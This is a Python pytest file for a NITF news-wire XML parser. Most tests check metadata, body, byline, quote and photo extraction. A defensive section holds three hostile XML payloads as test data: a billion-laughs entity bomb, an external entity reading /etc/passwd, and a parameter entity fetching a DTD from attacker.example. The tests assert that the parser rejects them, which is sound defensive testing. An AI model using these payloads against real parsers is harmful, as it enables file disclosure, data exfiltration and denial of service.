"""NITF 3.x documents to a WireStory, and XML that must be refused."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from articles.conventions.quote_check import normalise_for_match
from articles.wire.nitf_reader import parse_nitf
from articles.wire.wire_story import AUTHOR, EDITING, REPORTING, WireByline, WireError, WirePhoto

SAMPLES = Path(__file__).parent / "wire_samples"


def nitf(body: str = "<p>The council voted.</p>", head: str = "", docdata: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<nitf><head>{head}<docdata{docdata}>'
        '<doc-id id-string="NW-1"/></docdata></head><body><body.head><hedline>'
        "<hl1>Harbor city approves floating solar farm</hl1></hedline></body.head>"
        f"<body.content>{body}</body.content></body></nitf>"
    )


@pytest.fixture
def ferry():
    return parse_nitf((SAMPLES / "northwind-ferry.nitf.xml").read_bytes())


def test_nitf_metadata(ferry):
    assert ferry.format == "nitf"
    assert ferry.headline == "Island ferry line orders battery boats to replace diesel fleet"
    assert ferry.standfirst == (
        "The first of three vessels is due on the Kestrel Island route in 2027"
    )
    assert ferry.source_identifier == "NW-2025-0412-0077"
    assert ferry.published_at == datetime(2025, 4, 12, 8, 15, tzinfo=UTC)  # date.issue
    assert ferry.embargo_until == datetime(2025, 4, 12, 10, 0, tzinfo=UTC)  # date.release
    assert (ferry.pubstatus, ferry.language) == ("usable", "en")
    assert (ferry.dateline, ferry.source) == ("KESTREL ISLAND", "Northwind")
    assert ferry.tags == ["Ferries", "Energy"]
    assert ferry.warnings == []


def test_nitf_body(ferry):
    parts = ferry.body.split("\n\n")
    assert parts[0] == (
        "The company that runs the only ferry to Kestrel Island has ordered three "
        "battery-electric boats, it said on Saturday, in a deal worth about 60 million crowns."
    )
    assert "## QUIETER CROSSINGS" in parts
    assert "> Every crossing we electrify is a crossing nobody has to breathe." in parts
    assert "> — Jonas Vik, harbour master" in parts
    assert (
        parts[-1] == "The shipyard said the first boat would be delivered in the spring of *2027*."
    )
    assert len(parts) == 9
    assert "Reporting by" not in ferry.body and "Copyright" not in ferry.body


def test_nitf_people_quotes_photo_and_rights(ferry):
    assert ferry.bylines == [
        WireByline("Mara Ellison", AUTHOR, "", "Northwind"),
        WireByline("Mara Ellison", REPORTING),
        WireByline("Tom Hale", EDITING),
    ]
    assert [(q.text, q.speaker, q.speaker_title, q.partial) for q in ferry.quotes] == [
        (
            "We have carried islanders for ninety years and we intend to carry them for "
            "ninety more",
            "Henrik Sundqvist",
            "",
            False,
        ),
        (
            "Every crossing we electrify is a crossing nobody has to breathe.",
            "Jonas Vik",
            "harbour master",
            False,
        ),
        (
            "It will be the first summer in my life without diesel in the air,",
            "Ruth Albrechtsen",
            "",
            False,
        ),
    ]
    body = normalise_for_match(ferry.body)
    assert all(normalise_for_match(q.text) in body for q in ferry.quotes)
    assert ferry.photos == [
        WirePhoto(
            caption="A diesel ferry leaves the harbour of Kestrel Island, April 11, 2025.",
            credit="NORTHWIND/Per Lund",
            href="https://media.example.org/northwind/ferry-0412.jpg",
            alt_text="A white ferry at a wooden quay",
        )
    ]
    rights = ferry.rights
    assert rights.notice == "Copyright 2025 Northwind Media. All rights reserved."
    assert (rights.holder, rights.year, rights.statement) == (
        "Northwind Media",
        2025,
        "All rights reserved.",
    )


def test_byline_without_person_elements():
    doc = nitf().replace(
        "</hedline>", "</hedline><byline>By Jane Roe and John Doe<byttl>Northwind</byttl></byline>"
    )
    story = parse_nitf(doc)
    assert story.bylines == [
        WireByline("Jane Roe", AUTHOR, "", "Northwind"),
        WireByline("John Doe", AUTHOR, "", "Northwind"),
    ]


def test_kill_notice():
    story = parse_nitf(nitf(body="", docdata=' management-status="canceled"'))
    assert (story.pubstatus, story.source_identifier, story.body) == ("canceled", "NW-1", "")


def test_copyright_from_docdata_only_is_a_warning():
    doc = nitf().replace("<doc-id", '<doc.copyright year="2025" holder="Northwind Media"/><doc-id')
    story = parse_nitf(doc)
    assert (story.rights.notice, story.rights.holder, story.rights.year) == (
        "",
        "Northwind Media",
        2025,
    )
    assert any("no notice" in w for w in story.warnings)


def test_latin_1_document_as_bytes():
    doc = nitf("<p>Café opens.</p>").replace("UTF-8", "ISO-8859-1").encode("latin-1")
    assert parse_nitf(doc).body == "Café opens."


def test_namespaced_nitf():
    doc = nitf().replace("<nitf>", '<nitf xmlns="http://iptc.org/std/NITF/2006-10-18/">')
    assert parse_nitf(doc).headline == "Harbor city approves floating solar farm"


# -- refused ----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nitf><body><body.content><p>&lol3;</p></body.content></body></nitf>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&secret;</p></body.content></body></nitf>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<nitf/>
"""


@pytest.mark.parametrize(
    ("doc", "line"), [(BILLION_LAUGHS, 3), (EXTERNAL_ENTITY, 2), (PARAMETER_ENTITY, 2)]
)
def test_entity_attacks_are_refused(doc, line):
    with pytest.raises(WireError, match="declares entities") as error:
        parse_nitf(doc.encode())
    assert error.value.line == line


def test_doctype_of_real_nitf_files_is_accepted_and_html_entities_known():
    doc = nitf("<p>60&nbsp;million&mdash;more</p>").replace(
        "<nitf>", '<!DOCTYPE nitf SYSTEM "nitf-3-6.dtd">\n<nitf>'
    )
    assert parse_nitf(doc).body == "60 million—more"


def test_malformed_xml_names_the_line():
    with pytest.raises(WireError, match="invalid XML: mismatched tag") as error:
        parse_nitf("<nitf>\n<body>\n<p>x</body>\n</nitf>")
    assert error.value.line == 3


def test_undefined_entity_without_doctype():
    with pytest.raises(WireError, match="undefined entity"):
        parse_nitf(nitf("<p>a&nbsp;b</p>"))


def test_other_xml_is_not_nitf():
    with pytest.raises(WireError, match="not a NITF document"):
        parse_nitf("<rss><channel/></rss>")


@pytest.mark.parametrize(
    ("body", "message"),
    [("", "no body text"), ("<p>   </p>", "no body text")],
)
def test_story_without_body(body, message):
    with pytest.raises(WireError, match=message):
        parse_nitf(nitf(body))


def test_no_headline():
    with pytest.raises(WireError, match="no headline"):
        parse_nitf("<nitf><body><body.content><p>Text.</p></body.content></body></nitf>")


def test_deep_nesting_is_a_wire_error():
    depth = 50_000
    doc = nitf("<block>" * depth + "<p>x</p>" + "</block>" * depth)
    with pytest.raises(WireError, match="nested too deeply"):
        parse_nitf(doc)
